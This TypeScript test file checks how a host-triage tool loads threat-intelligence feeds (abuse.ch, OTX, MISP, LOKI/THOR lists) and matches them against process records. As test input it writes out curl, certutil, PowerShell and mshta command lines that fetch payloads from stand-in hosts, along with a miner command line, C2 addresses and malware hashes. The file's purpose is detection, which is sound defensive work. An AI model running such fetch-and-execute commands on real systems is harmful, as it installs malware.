// Threat-intelligence files: the public feeds' own shapes (abuse.ch Feodo Tracker, ThreatFox,
// MalwareBazaar, URLhaus, OTX and MISP CSV exports), LOKI/THOR lists, defanged values, bad lines
// skipped with one warning per file (or fatal with --strict-ioc), empty files listed, and a URL
// found in a command line of a real triage run. Fixtures: test/fixtures/ioc/.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { join } from 'node:path';
import { Intel, iocFileWarning, iocFindingInfo, loadIocFile, refang, type IocMatch } from '../lib/triage/intel.ts';
import { scoreLevel } from '../lib/triage/ioc-formats.ts';
import { runTriage } from '../lib/triage/output.ts';
import { cli, collectRecordedWindowsHost, FIXTURES, pwshOrFail, readJson, writeTree } from './helpers.ts';

const IOC = join(FIXTURES, 'ioc');

function load(file: string, strict = false) {
  const intel = new Intel();
  const r = loadIocFile(intel, file.includes('/') ? file : join(IOC, file), { strict });
  return { intel, r };
}

/** Every indicator held, as "type:value", sorted. */
function held(intel: Intel): string[] {
  return [
    ...[...intel.hashes.values()],
    ...[...intel.ips.values()],
    ...intel.cidrs.map((c) => c.ioc),
    ...[...intel.domains.values()],
    ...[...intel.urls.values()],
    ...intel.filenames.map((f) => f.ioc),
  ]
    .map((i) => `${i.type}:${i.value}`)
    .sort();
}

const hits = (ms: IocMatch[]) => ms.map((m) => `${m.ioc.type}:${m.field}:${m.value}`).sort();

test('public feed CSVs: each header of the documented shape gives its indicators, and nothing else', () => {
  const expect: Record<string, [string, string[]]> = {
    // Banner comments, then an uncommented quoted header naming the address column dst_ip.
    'feodo-ipblocklist.csv': ['CSV (abuse.ch Feodo Tracker)', ['ip:162.144.127.197', 'ip:185.220.101.47', 'ip:67.213.75.205']],
    // Commented header, `", "` separators, ip:port values and *_hash types.
    'threatfox-recent.csv': [
      'CSV (abuse.ch ThreatFox)',
      [
        'domain:update-check.example-cdn.net',
        'hash:3b1fa5c2d3e4f5a6b7c8d9e0f1a2b3c4',
        'hash:9d9e505ab8764e912117e1a6ad649e875bb5424c894517d1c8a02c87dcd6d902',
        'ip:104.243.33.118',
        'url:https://update-check.example-cdn.net/ajax.php?v=2',
      ],
    ],
    // sha256_hash, md5_hash and sha1_hash columns; imphash, ssdeep and tlsh are not file hashes.
    'malwarebazaar-recent.csv': [
      'CSV (abuse.ch MalwareBazaar)',
      [
        'hash:0e1d2c3b4a5968778695a4b3c2d1e0f1a2b3c4d5',
        'hash:1f2e3d4c5b6a79880f1e2d3c4b5a69788f9e0d1c',
        'hash:5c2b3f2d7a7e0f7e1f36d4d0b4b8f1a9',
        'hash:8a1f0c3e5b7d9f2a4c6e8b0d1f3a5c7e',
        'hash:c257a7e86bb832aa49728346bb6f09ed62098880c1281331519e7c1081df7bcc',
        'hash:d2fde36014676d4fd7c4582b232136fbc15d0eb44cb51e072735cfdcbc31c392',
      ],
    ],
    // The url column only: urlhaus_link (a link to abuse.ch's own page) is not an indicator.
    'urlhaus-recent.csv': ['CSV (abuse.ch URLhaus)', ['url:http://94.122.77.235:32794/Mozi.m', 'url:http://dl.example-share.top/payload/winupdate.exe', 'url:https://cdn.example-files.xyz/invoice.hta']],
    'otx-pulse.csv': [
      'CSV (OTX)',
      [
        'domain:iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com',
        'hash:db349b97c37d22f5ea1d1841e3c89eb4',
        'hash:ed01ebfbc9eb5bbea545af4d01bf5f1071661840480439c6e5babe8e080e41aa',
        'ip:104.243.33.118',
        'url:http://iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com',
      ],
    ],
    // Composite types (ip-dst|port, filename|sha256, domain|ip), a defanged url, a quoted comment with a comma.
    'misp-export.csv': [
      'CSV (MISP)',
      ['domain:c2.example-relay.net', 'hash:0ac97fe09a85d478f052a6a3c2ec73b1047d64d1540568407fee293702a55e1b', 'ip:185.220.101.47', 'ip:198.51.100.23', 'url:http://c2.example-relay.net/gate.php'],
    ],
  };
  for (const [file, [format, values]] of Object.entries(expect)) {
    const { intel, r } = load(file);
    assert.is(r.format, format, file);
    assert.equal(held(intel), values, file);
    assert.is(r.indicators, values.length, file);
  }
  // OTX's CVE and e-mail rows and MISP's email-src are types that match nothing here: counted, not warned about as bad.
  assert.is(load('otx-pulse.csv').r.ignored, 2);
  assert.equal(load('otx-pulse.csv').r.ignoredTypes, ['CVE', 'email']);
  assert.is(load('otx-pulse.csv').r.skipped, 0);
  assert.is(iocFileWarning(load('feodo-ipblocklist.csv').r), undefined, 'a clean feed loads without a warning');
  // The feed's own words travel with the indicator into the finding.
  assert.is(load('feodo-ipblocklist.csv').intel.ips.get('185.220.101.47')!.comment, 'QakBot');
  assert.is(load('misp-export.csv').intel.ips.get('185.220.101.47')!.comment, 'C2, seen on two hosts');
  assert.is(load('threatfox-recent.csv').intel.ips.get('104.243.33.118')!.line, 10);
});

test('LOKI/THOR lists: hash;comment, ip-or-domain;comment C2 lists, regex;score filename IOCs with their level', () => {
  const hashes = load('hash-iocs.txt');
  assert.is(hashes.r.format, 'LOKI/THOR hash list');
  assert.equal(held(hashes.intel), ['hash:24d004a104d4d54034dbcffc2a4b19a11f39008a575aa614ea04703480b1022c', 'hash:db349b97c37d22f5ea1d1841e3c89eb4']);
  assert.is(hashes.intel.hashes.get('db349b97c37d22f5ea1d1841e3c89eb4')!.comment, 'WannaCry dropper (MD5, upper case)');
  assert.equal(hashes.r.skippedLines.map((s) => s.line), [8], 'the 63-digit hash');

  const c2 = load('c2-iocs.txt');
  assert.is(c2.r.format, 'LOKI/THOR C2 list');
  assert.equal(held(c2.intel), ['domain:minexmr.com', 'ip:10.20.1.0/24', 'ip:104.243.33.118', 'ip:185.220.101.47']);
  assert.is(c2.intel.ips.get('104.243.33.118')!.comment, 'AsyncRAT C2');

  const fn = load('filename-iocs.txt');
  assert.is(fn.r.format, 'LOKI/THOR filename list');
  // LOKI's thresholds: 100 alert → high, 60 warning → medium, 40 notice → low.
  assert.equal(
    fn.intel.filenames.map((f) => `${f.ioc.score}:${f.ioc.level}`),
    ['100:high', '80:medium', '90:medium', '70:medium', '50:low', '40:low'],
  );
  // Exactly at each threshold.
  assert.equal([39, 40, 59, 60, 99, 100].map(scoreLevel), ['informational', 'low', 'low', 'medium', 'medium', 'high']);
  // The same list without the "filename" tag in its name is still read as regex;score.
  const untagged = writeTree({ 'apt-case.txt': '\\\\mssecsvc\\.exe;100\n(?i)\\\\scvhost\\.exe;59\n' });
  const u = load(join(untagged, 'apt-case.txt'));
  assert.equal(u.intel.filenames.map((f) => `${f.ioc.value}:${f.ioc.level}`), ['\\\\mssecsvc\\.exe:high', '(?i)\\\\scvhost\\.exe:low']);
});

test('filename IOCs match image paths and command lines: case-sensitive unless (?i), and the false-positive regex clears a match', () => {
  const { intel } = load('filename-iocs.txt');
  const m = (r: Record<string, unknown>) => hits(intel.match(r)).map((h) => h.split(':')[0] + ':' + h.split(':')[1]);
  const detail = (r: Record<string, unknown>) => intel.match(r).map((x) => `${x.ioc.value}@${x.ioc.level}`);
  assert.equal(detail({ name: 'mssecsvc.exe', path: 'C:\\WINDOWS\\mssecsvc.exe', commandLine: 'C:\\WINDOWS\\mssecsvc.exe -m security' }), ['\\\\mssecsvc\\.exe@high']);
  assert.equal(detail({ name: 'tasksche.exe', path: 'C:\\ProgramData\\kbtlxyzqjf\\tasksche.exe' }), ['\\\\ProgramData\\\\[a-z]{10}\\\\tasksche\\.exe@medium'], '\\TASKSCHE\\.EXE is case-sensitive and does not match');
  assert.equal(detail({ entry: 'scvhost', imagePath: 'C:\\Users\\Public\\scvhost.exe' }), ['(?i)\\\\users\\\\public\\\\scvhost\\.exe@medium'], '(?i) on an autorun image path');
  assert.equal(m({ name: 'svchost.exe', path: 'C:\\Users\\jdoe\\AppData\\Roaming\\svchost.exe' }), ['filename:path']);
  assert.equal(m({ name: 'svchost.exe', path: 'C:\\Windows\\system32\\svchost.exe', commandLine: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p' }), [], 'cleared by the false-positive regex');
  // What the engine should say and weigh (see iocFindingInfo): the score's level, the entry's place and words.
  const [ms] = intel.match({ name: 'mssecsvc.exe', path: 'C:\\WINDOWS\\mssecsvc.exe' });
  assert.equal(iocFindingInfo(ms), { what: 'file name pattern', level: 'high', listed: '\\\\mssecsvc\\.exe in filename-iocs.txt line 7, score 100' });
  const [low] = intel.match({ name: 'svchost.exe', path: 'C:\\Users\\jdoe\\AppData\\Roaming\\svchost.exe' });
  assert.is(iocFindingInfo(low).level, 'low');
  assert.equal(
    m({ name: 'winupdate.exe', path: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\winupdate.exe', commandLine: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\winupdate.exe -o stratum+tcp://pool.minexmr.com:4444 -u x' }),
    ['filename:commandLine'],
    'a regex on the command line',
  );
});

test('defanged indicators are refanged and then match', () => {
  assert.is(refang('hxxp://evil[.]example/a.exe'), 'http://evil.example/a.exe');
  assert.is(refang('hXXps[:]//evil(.)example'), 'https://evil.example');
  assert.is(refang('198.51.100[.]7'), '198.51.100.7');
  assert.is(refang('evil[dot]example'), 'evil.example');
  assert.is(refang('ops[at]evil[.]example'), 'ops@evil.example');
  assert.is(refang('10.0.0.1[:]8080'), '10.0.0.1:8080');

  const { intel, r } = load('defanged.txt');
  assert.is(r.skipped, 0);
  assert.equal(held(intel), [
    'domain:c2.example-relay.net',
    'ip:104.243.33.118',
    'url:http://dl.example-share.top/payload/winupdate.exe',
    'url:https://cdn.example-files.xyz/invoice.hta',
    'url:stratum+tcp://pool.minexmr.com:4444',
  ]);
  assert.equal(hits(intel.match({ protocol: 'tcp', remoteAddress: '104.243.33.118', remotePort: 443 })), ['ip:remoteAddress:104.243.33.118']);
  const [url] = intel.match({ name: 'x', commandLine: 'curl -O http://dl.example-share.top/payload/winupdate.exe' });
  assert.equal(iocFindingInfo(url), { what: 'URL', level: 'high', listed: 'http://dl.example-share.top/payload/winupdate.exe in defanged.txt line 2' });
  assert.equal(
    hits(intel.match({ name: 'powershell.exe', commandLine: 'powershell -c "iwr https://cdn.example-files.xyz/invoice.hta -OutFile $env:TEMP\\i.hta"' })),
    ['url:commandLine:https://cdn.example-files.xyz/invoice.hta'],
  );
  assert.equal(hits(intel.match({ entry: 'x', launchString: 'mshta.exe http://cdn.c2.example-relay.net/x' })), ['domain:launchString:cdn.c2.example-relay.net'], 'a subdomain of a refanged domain');
});

test('URLs match exactly (scheme and host in any case, query ignored when the list has none), not by prefix', () => {
  const intel = new Intel();
  assert.ok(intel.add('url', 'hxxp://dl.example-share[.]top/payload/winupdate.exe', 't'));
  assert.ok(intel.add('url', 'https://evil.example/', 't'));
  assert.not.ok(intel.add('url', 'not a url', 't'));
  const cl = (c: string) => hits(intel.match({ name: 'x', commandLine: c }));
  assert.equal(cl('certutil -urlcache -f HTTP://DL.Example-Share.top/payload/winupdate.exe w.exe'), ['url:commandLine:http://dl.example-share.top/payload/winupdate.exe']);
  assert.equal(cl('curl "http://dl.example-share.top/payload/winupdate.exe?id=7"'), ['url:commandLine:http://dl.example-share.top/payload/winupdate.exe?id=7']);
  assert.equal(cl('curl http://dl.example-share.top/payload/winupdate.exe2'), []);
  assert.equal(cl('curl http://dl.example-share.top/payload/'), []);
  assert.equal(cl('start https://evil.example'), ['url:commandLine:https://evil.example'], 'a bare host with or without "/"');
  assert.equal(hits(intel.match({ url: 'https://evil.example/' })), ['url:url:https://evil.example'], 'the url field (proxy logs)');
});

test('bad lines are skipped with one warning per file: its name, the first line numbers and how many more, and why', () => {
  // The case: a title line on top of a plain hash list lost every hash.
  const title = load('plain-with-title.txt');
  assert.is(title.r.indicators, 5);
  assert.equal(title.r.skippedLines.map((s) => s.line), [1, 6]);
  const w = iocFileWarning(title.r)!;
  assert.match(w, /plain-with-title\.txt \(plain list\): skipped 2 lines \(lines 1, 6\): not a hash, IP address, CIDR range, URL or domain \(line 1: "SHA256 hashes, campaign/);
  assert.match(w, /loaded 5 indicators/);

  const many = ['# hashes'];
  for (let i = 0; i < 30; i++) many.push(i % 3 === 0 ? `junk line ${i}` : (i.toString(16).padStart(2, '0') + 'ab').repeat(8));
  const dir = writeTree({ 'many.txt': many.join('\n') + '\n' });
  const { r } = load(join(dir, 'many.txt'));
  assert.is(r.indicators, 20);
  assert.is(r.skipped, 10);
  const lines = iocFileWarning(r)!;
  assert.match(lines, /skipped 10 lines \(lines 2, 5, 8, 11, 14 and 5 more\): not a hash, IP address, CIDR range, URL or domain \(line 2: "junk line 0"\)/);
  assert.is(lines.split('\n').length, 1, 'one line');

  // Several reasons: each named once with its first line.
  const fw = iocFileWarning(load('filename-iocs.txt').r)!;
  assert.match(fw, /skipped 2 lines \(lines 18, 20\): a filename IOC needs "regex;score".*\(line 18: .*\); not a valid regular expression .*\(line 20: /);
  const mw = iocFileWarning(load('misp-export.csv').r)!;
  assert.match(mw, /misp-export\.csv \(CSV \(MISP\)\): skipped 1 line \(line 7\): not a valid IP address \(line 7: "not-an-address"\)/);
});

test('strict: the first bad line stops loading, with file:line', () => {
  const e = (file: string) => {
    try {
      load(file, true);
    } catch (x) {
      return String(x);
    }
    return 'no error';
  };
  assert.match(e('plain-with-title.txt'), /plain-with-title\.txt:1: "SHA256 hashes, campaign .*" is not a hash, IP address, CIDR range, URL or domain$/);
  assert.match(e('misp-export.csv'), /misp-export\.csv:7: "not-an-address" is not a valid IP address$/);
  assert.match(e('hash-iocs.txt'), /hash-iocs\.txt:8: "5fea4901[0-9a-f]+" is not an MD5, SHA-1 or SHA-256 hash$/);
  assert.match(e('filename-iocs.txt'), /filename-iocs\.txt:18: /);
  assert.is(e('threatfox-recent.csv'), 'no error', 'a clean file loads in strict mode too');
  // loadIocFile without options is strict: a caller that shows no warning never loses lines silently.
  assert.throws(() => loadIocFile(new Intel(), join(IOC, 'plain-with-title.txt')), (x: unknown) => /plain-with-title\.txt:1:/.test(String(x)));
});

test('a file with no indicator is warned about and still listed', () => {
  const intel = new Intel();
  const r = loadIocFile(intel, join(IOC, 'empty.txt'), { strict: false });
  assert.is(r.indicators, 0);
  assert.match(iocFileWarning(r)!, /empty\.txt \(plain list\): no indicator loaded: the file holds only comments; it is listed in triage\.json with 0 indicators/);
  assert.equal(intel.files.map((f) => [f.file.endsWith('empty.txt'), f.indicators]), [[true, 0]]);
  // A CSV whose columns are all unknown says which header it saw.
  const dir = writeTree({ 'odd.csv': 'seen,address_of_bad_guy\n2026-01-01,198.51.100.7\n', 'blank.txt': '' });
  assert.match(iocFileWarning(load(join(dir, 'odd.csv')).r)!, /odd\.csv \(CSV\): no indicator loaded: no column this tool knows \(header: seen,address_of_bad_guy\)/);
  assert.match(iocFileWarning(load(join(dir, 'blank.txt')).r)!, /no indicator loaded: the file is empty/);
});

const infected: string[] = [];
test.before(async () => {
  pwshOrFail();
  infected.push(await collectRecordedWindowsHost('infected'));
});

test('a real triage run: a defanged URL from the list is found in the miner\'s command line, a near miss is not', async () => {
  const dir = writeTree({ 'urls.txt': '# pools\nstratum+tcp://pool.minexmr[.]com[:]4444\nstratum+tcp://pool.minexmr.com:5555\n' });
  const intel = new Intel();
  loadIocFile(intel, join(dir, 'urls.txt'));
  const run = await runTriage(infected[0], { rules: [], intel });
  const found = run.result.findings.filter((f) => f.ioc);
  assert.equal(
    found.map((f) => [f.rule.id, f.kind, f.record.name, f.ioc!.field, f.ioc!.value, f.ioc!.ioc.line]),
    [['ioc-url', 'process', 'winupdate.exe', 'commandLine', 'stratum+tcp://pool.minexmr.com:4444', 2]],
  );
  assert.match(String(found[0].record.commandLine), /-o stratum\+tcp:\/\/pool\.minexmr\.com:4444 /);
  const tj = readJson(join(run.outDir, 'triage.json'));
  assert.equal(tj.intel.map((f: any) => [f.file.endsWith('urls.txt'), f.format, f.indicators, f.skipped]), [[true, 'plain list', 2, 0]]);
});

test('magpie triage --ioc: one warning per file on stderr, empty files listed in triage.json, --strict-ioc fails with file:line', () => {
  const r = cli(['triage', infected[0], '--ioc', join(IOC, 'plain-with-title.txt'), '--ioc', join(IOC, 'empty.txt'), '--ioc', join(IOC, 'feodo-ipblocklist.csv'), '--json']);
  assert.is(r.code, 0, r.stderr);
  const warnings = r.stderr.split('\n').filter((l) => l.startsWith('magpie: warning:'));
  assert.is(warnings.length, 2, r.stderr);
  assert.match(warnings[0], /plain-with-title\.txt \(plain list\): skipped 2 lines \(lines 1, 6\): not a hash/);
  assert.match(warnings[1], /empty\.txt \(plain list\): no indicator loaded/);
  const out = JSON.parse(r.stdout).hosts[0].out;
  const tj = readJson(join(out, 'triage.json'));
  assert.equal(
    tj.intel.map((f: any) => [f.file.split('/').pop(), f.indicators, f.skipped]),
    [
      ['plain-with-title.txt', 5, 2],
      ['empty.txt', 0, 0],
      ['feodo-ipblocklist.csv', 3, 0],
    ],
  );
  const findings = readJson(join(out, 'findings.json')).findings;
  assert.ok(findings.some((f: any) => f.rule.id === 'ioc-ip' && f.ioc.value === '185.220.101.47'), 'the Feodo Tracker address (dst_ip) matched a connection');
  assert.ok(findings.some((f: any) => f.rule.id === 'ioc-hash' && f.record.name === 'scvhost.exe'), 'a hash below the title line matched');

  const strict = cli(['triage', infected[0], '--ioc', join(IOC, 'plain-with-title.txt'), '--strict-ioc']);
  assert.is(strict.code, 2, strict.stderr);
  assert.match(strict.stderr, /plain-with-title\.txt:1: "SHA256 hashes, campaign/);

  // Only an empty file: triage still runs, and lists it.
  const only = cli(['triage', infected[0], '--ioc', join(IOC, 'empty.txt'), '--json']);
  assert.is(only.code, 0, only.stderr);
  assert.equal(readJson(join(JSON.parse(only.stdout).hosts[0].out, 'triage.json')).intel.map((f: any) => f.indicators), [0]);
});

test.run();
